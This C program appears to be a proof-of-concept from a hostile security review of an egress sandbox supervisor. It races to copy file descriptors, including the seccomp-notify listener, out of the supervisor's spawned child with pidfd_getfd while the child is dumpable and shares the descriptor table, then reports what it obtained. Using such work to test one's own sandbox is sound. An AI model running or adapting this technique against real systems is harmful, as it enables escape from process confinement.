/*
 * ha67-fdwin: hostile review h-attack67. A process of the supervisor's uid,
 * outside its namespaces, takes copies of the descriptors of the
 * supervisor's spawned child while it is dumpable (spawn.c: dumpable from
 * before the filter is installed until it is the agent's reaper) and still
 * shares the supervisor's descriptor table (clone CLONE_FILES, until its
 * unshare(CLONE_FILES)), with pidfd_getfd. Prints what each copy is; a
 * "seccomp notify" copy is the run's listener.
 *   ha67-fdwin SECONDS
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "ha67-common.h"

int main(int argc, char **argv)
{
	double secs = argc > 1 ? atof(argv[1]) : 10, t0 = now();
	int got = 0, listeners = 0, seen = 0, refused = 0, dumpable = 0;

	while (now() - t0 < secs) {
		int l = last_pid();

		for (int p = l - 2; p <= l; p++) {
			char comm[64] = {0}, path[64];
			int pfd, cfd;

			snprintf(path, sizeof(path), "/proc/%d/comm", p);
			cfd = open(path, O_RDONLY);
			if (cfd < 0)
				continue;
			if (read(cfd, comm, sizeof(comm) - 1) < 0)
				comm[0] = 0;
			close(cfd);
			if (strncmp(comm, "egress-supervis", 15) != 0)
				continue;
			pfd = (int)syscall(SYS_pidfd_open, p, 0);
			if (pfd < 0)
				continue;
			seen++;
			snprintf(path, sizeof(path), "/proc/%d/uid_map", p);
			cfd = open(path, O_WRONLY | O_CLOEXEC);
			if (cfd >= 0) {
				dumpable++;
				close(cfd);
			}
			for (int n = 3; n < 64; n++) {
				char self[64], what[256] = {0};
				int fd = (int)syscall(SYS_pidfd_getfd, pfd, n, 0);

				if (fd < 0) {
					if (errno != EBADF)
						refused++;
					continue;
				}
				snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
				if (readlink(self, what, sizeof(what) - 1) < 0)
					strcpy(what, "?");
				got++;
				if (strstr(what, "seccomp")) {
					listeners++;
					printf("pid %d fd %d: %s\n", p, n, what);
					fflush(stdout);
				}
				close(fd);
			}
			close(pfd);
		}
	}
	printf("dumpable %d, seen %d, refused %d, copies %d, listeners %d\n", dumpable, seen,
	       refused, got, listeners);
	return 0;
}
